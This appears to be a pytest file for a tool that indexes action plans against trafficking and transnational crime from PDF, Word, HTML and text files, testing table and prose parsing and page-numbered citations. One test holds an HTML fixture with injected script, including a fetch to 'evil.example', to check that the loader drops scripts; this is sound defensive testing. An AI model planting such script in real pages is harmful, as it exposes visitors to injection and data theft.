"""Plans as PDF, Word and HTML files: the loaders' document model, tables read as cells across page
breaks, action tables and prose actions of layouts the corpus does not have, and the five corpus
plans written as PDF and .docx inside the test giving the same action records as the text files."""

from __future__ import annotations

from pathlib import Path

import pytest

from bench.formats import agreement, records
from bench.plan_files import text_to_blocks, write_as, write_docx, write_html, write_pdf
from indexer.blocks import Block, render
from indexer.load import read_document
from indexer.pipeline import document_actions, parse_file, plan_id_for
from tests.conftest import CORPUS

# A plan in a layout written for this test: column names unlike any corpus plan's, a grouping
# column carried down, an unrecognised column, a numbered reference column.
HEADER = ("Strategic objective", "Ref.", "Key activity", "Agency in charge", "Completion date",
          "Source of finance", "Remarks")
ROWS = [
    ("Stronger border control", "1.1", "Joint patrols on the green border between the two countries",
     "Border Police\nCustoms Administration", "December 2025", "Available (state budget)", "pilot in 2024"),
    ("", "1.2", "Shared risk analysis unit for smuggling routes", "Ministry of Interior", "Q2 2026",
     "Seeking funding", ""),
    ("Fewer trafficking victims", "2.1", "Hotline for victims of trafficking, open day and night",
     "National Coordinator; NGO La Strada", "Ongoing 2024-2026", "EUR 120,000 from the EU (available)", ""),
    ("", "2.2", "Training of labour inspectors to spot forced labour", "Labour Inspectorate", "March 2025",
     "Funding being negotiated", "two sessions"),
]


def _records_of(path: Path) -> list[dict]:
    return records(path, path.parent)


def _parse(path: Path):
    doc = read_document(path, path.parent)
    pid = plan_id_for(doc.rel)
    parsed = parse_file(doc)
    return doc, parsed, document_actions(parsed, pid, doc.rel)


def _unseen_blocks(rows: list[tuple[str, ...]] = ROWS) -> list[Block]:
    return [Block("heading", "National Action Plan against Trafficking and Smuggling 2024-2026", level=1),
            Block("paragraph", "The Government adopts the following measures."),
            Block("table", header=HEADER, rows=tuple(rows))]


def _check_unseen(actions: list) -> None:
    by_number = {a.number: a for a in actions}
    assert sorted(by_number) == ["1.1", "1.2", "2.1", "2.2"], [a.id for a in actions]
    a = by_number["1.1"]
    assert a.drivers == ("Border Police", "Customs Administration")
    assert (a.end.isoformat(), a.funding_status) == ("2025-12-31", "available")
    assert a.need == "Stronger border control" and "green border" in a.text
    assert by_number["1.2"].need == "Stronger border control"  # carried down
    assert by_number["1.2"].funding_status == "seeking" and by_number["1.2"].end.isoformat() == "2026-06-30"
    b = by_number["2.1"]
    assert b.drivers == ("National Coordinator", "NGO La Strada") and b.status == "ongoing"
    assert b.amounts and b.amounts[0].value == 120000 and b.need == "Fewer trafficking victims"
    assert by_number["2.2"].funding_status == "negotiating"


@pytest.mark.parametrize("fmt", ["pdf", "docx", "html"])
def test_a_table_with_unseen_column_names_gives_actions_in_every_format(tmp_path, fmt) -> None:
    writer = {"pdf": write_pdf, "docx": write_docx, "html": write_html}[fmt]
    path = writer(_unseen_blocks(), tmp_path / f"nap-2024-2026.{fmt}")
    doc, parsed, actions = _parse(path)
    assert doc.format == fmt and doc.rel == f"nap-2024-2026.{fmt}"
    assert plan_id_for(doc.rel) == "nap-2024-2026"  # the id is the file name without extension
    _check_unseen(actions)
    assert any("columns not recognised: 'Remarks'" in w for w in parsed.warnings), parsed.warnings
    assert any("4 actions" in t for t in parsed.tables_found)


def test_the_same_table_flattened_to_tabs_in_a_text_file_gives_the_same_actions(tmp_path) -> None:
    lines = ["NATIONAL ACTION PLAN AGAINST TRAFFICKING 2024-2026", "", "\t".join(HEADER)]
    lines += ["\t".join(c.replace("\n", "; ") for c in row) for row in ROWS]
    path = tmp_path / "nap.txt"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    _, _, actions = _parse(path)
    _check_unseen(actions)


def test_a_multi_page_table_with_its_header_repeated_and_a_row_cut_by_a_page_break(tmp_path) -> None:
    long = " ".join(f"Step {k}: a regional workshop on financial investigations for prosecutors and police "
                    "officers, with a report to the steering group." for k in range(1, 31))
    rows = []
    for i in range(1, 21):
        rows.append(("Stronger border control" if i == 1 else "", f"1.{i}",
                     long if i in (4, 9, 15) else f"Activity number {i} of the plan, described in one sentence.",
                     f"Agency {chr(64 + i)}", "December 2025", "Seeking funding" if i % 2 else "Available", ""))
    path = write_pdf(_unseen_blocks(rows), tmp_path / "long.pdf", split_rows=True)
    doc, parsed, actions = _parse(path)
    assert doc.pages >= 3
    (table,) = doc.tables
    assert table.continued, "a row cut by a page break is flagged"
    assert not any(r[2] == "Key activity" for r in table.rows), "the repeated header is not a row"
    assert [a.number for a in actions] == [f"1.{i}" for i in range(1, 21)]
    for a in actions:
        i = int(a.number.split(".")[1])
        assert a.drivers == (f"Agency {chr(64 + i)}",)
        assert a.funding_status == ("seeking" if i % 2 else "available")
        assert a.end is not None and a.end.isoformat() == "2025-12-31"
    for k in (3, 8, 14):
        assert all(f"Step {j}:" in actions[k].text for j in range(1, 31)), "a cut row is joined whole"
    pages = {s.page_start for s in parsed.sections}
    assert pages >= {1, 2, 3}
    assert all(s.page_start <= s.page_end for s in parsed.sections)


def test_prose_actions_with_lead_action_line_and_timeframe_lines(tmp_path) -> None:
    text = """WORK PROGRAMME TO IMPLEMENT THE REGIONAL PLAN OF ACTION ON TRANSNATIONAL CRIME 2024-2026

I. Information Exchange

Action Line: Establish a regional database of wanted persons and stolen travel documents.
Lead: National Police of Indonesia
Timeframe: 2025
Budget: EUR 200,000 available

Action Line: Exchange liaison officers between the national police forces.
Lead agency: Royal Malaysia Police and Philippine National Police
Deadline: End of 2024

II. Training

Action Line 2.1: Train border guards in the detection of forged documents.
Implementing body: Regional Training Centre
Source of funding: Seeking funding
"""
    for fmt in ("txt", "docx"):
        if fmt == "txt":
            path = tmp_path / "wp.txt"
            path.write_text(text, encoding="utf-8")
        else:
            path = write_docx(text_to_blocks(text), tmp_path / "wp.docx")
        _, _, actions = _parse(path)
        got = {a.number: a for a in actions}
        assert sorted(got) == ["I.1", "I.2", "II.2.1"], (fmt, [a.id for a in actions])
        assert got["I.1"].drivers == ("National Police of Indonesia",)
        assert got["I.1"].end.isoformat() == "2025-12-31" and got["I.1"].funding_status == "available"
        assert got["I.2"].drivers == ("Royal Malaysia Police", "Philippine National Police")
        assert got["I.2"].end.isoformat() == "2024-12-31"
        assert got["II.2.1"].drivers == ("Regional Training Centre",) and got["II.2.1"].funding_status == "seeking"
        assert "Lead" not in got["I.1"].text and got["I.1"].text.startswith("Establish a regional database")


def test_word_headings_lists_and_tables_become_blocks(tmp_path) -> None:
    from indexer.formats.word import read_docx

    blocks = [Block("heading", "Plan of Action 2030", level=1), Block("heading", "1) Aims", level=2),
              Block("list_item", "first", number="1"), Block("list_item", "second", number="1"),
              Block("list_item", "nested", level=2), Block("paragraph", "Body text."),
              Block("table", header=("Action", "Lead"), rows=(("Train\n- judges\n- prosecutors", "MoJ"),))]
    got, info = read_docx(write_docx(blocks, tmp_path / "p.docx"))
    kinds = [(b.kind, b.text, b.level, b.number) for b in got if b.kind != "table"]
    assert kinds == [("heading", "Plan of Action 2030", 1, ""), ("heading", "1) Aims", 2, ""),
                     ("list_item", "first", 1, "1"), ("list_item", "second", 1, "2"),
                     ("list_item", "nested", 2, ""), ("paragraph", "Body text.", 1, "")]
    (table,) = [b for b in got if b.kind == "table"]
    assert table.header == ("Action", "Lead") and table.rows == (("Train\n- judges\n- prosecutors", "MoJ"),)
    text = render(got).text
    assert "# Plan of Action 2030" in text and "1. first\n2. second\n  - nested" in text


def test_html_scripts_and_styles_are_dropped_never_run(tmp_path) -> None:
    page = """<html><head><title>Plan</title><style>p{color:red}</style>
    <script>document.write('INJECTED'); fetch('http://evil.example/x')</script></head>
    <body onload="alert('x')"><h1>Regional Plan of Action 2022-2025</h1>
    <p>Intro <b>text</b>.<script>var leaked = 'SECRET';</script></p>
    <ol><li>Train judges</li><li>Train prosecutors</li></ol>
    <noscript>Enable JS</noscript><table><tr><th>Action</th><th>Responsible</th><th>Deadline</th></tr>
    <tr><td>Set up a hotline</td><td>Ministry of Interior</td><td>June 2023</td></tr></table></body></html>"""
    path = tmp_path / "regional.html"
    path.write_text(page, encoding="utf-8")
    doc, parsed, actions = _parse(path)
    for bad in ("INJECTED", "SECRET", "evil.example", "alert", "color:red", "Enable JS"):
        assert bad not in doc.text
    assert "# Regional Plan of Action 2022-2025" in doc.text and "1. Train judges\n2. Train prosecutors" in doc.text
    (a,) = [x for x in actions if x.drivers]  # the numbered list items are actions too (no driver named)
    assert a.drivers == ("Ministry of Interior",) and a.end.isoformat() == "2023-06-30"
    assert sorted(x.title for x in actions if not x.drivers) == ["Train judges", "Train prosecutors"]


@pytest.mark.parametrize("fmt", ["pdf", "docx"])
def test_the_corpus_as_pdf_and_word_gives_the_text_files_action_records(tmp_path, fmt) -> None:
    """Done-when of issue 15: the five plans written as PDF / .docx give the same action records
    (number, drivers, dates, funding status) as the text files for at least 95% of records."""
    matched = total = 0
    for src in sorted(CORPUS.glob("*.txt")):
        base = _records_of(src)
        got = _records_of(write_as(src, tmp_path, fmt))
        m, t = agreement(base, got)
        matched, total = matched + m, total + t
    ratio = matched / total
    print(f"{fmt}: {matched}/{total} = {ratio:.3f}")
    assert total >= 169 and ratio >= 0.95


def test_pdf_citations_carry_the_page(tmp_path) -> None:
    from assistant.service import Assistant
    from indexer.embed import FakeEmbedder
    from indexer.pipeline import run_index
    from tests.conftest import make_settings

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    write_as(CORPUS / "bsec-plan-of-action-2011-2013.txt", corpus, "pdf")
    settings = make_settings(corpus, tmp_path / "data")
    run_index(settings, embedder=FakeEmbedder(), progress=False)
    ans = Assistant(settings, embedder=FakeEmbedder()).ask("Who is responsible for the BSEC Action Plan approval?")
    assert ans.citations and all(c.file.endswith(".pdf") and c.page_start >= 1 for c in ans.citations)
    assert ans.to_json()["citations"][0]["page_start"] >= 1


def test_slack_and_cli_sources_name_the_pdf_page() -> None:
    from assistant.models import Citation
    from bots.slack_render import Links, citation_line

    pdf = Citation(n=1, plan="P", section="A", quote="q", file="p.pdf", line_start=5, line_end=5, section_id="p:1",
                   page_start=3, page_end=4)
    txt = Citation(n=2, plan="P", section="A", quote="q", file="p.txt", line_start=5, line_end=6, section_id="p:2")
    assert "(pp. 3–4, line 5)" in citation_line(pdf, Links())
    assert "(lines 5–6)" in citation_line(txt, Links()) and "p." not in citation_line(txt, Links()).split("(")[1]
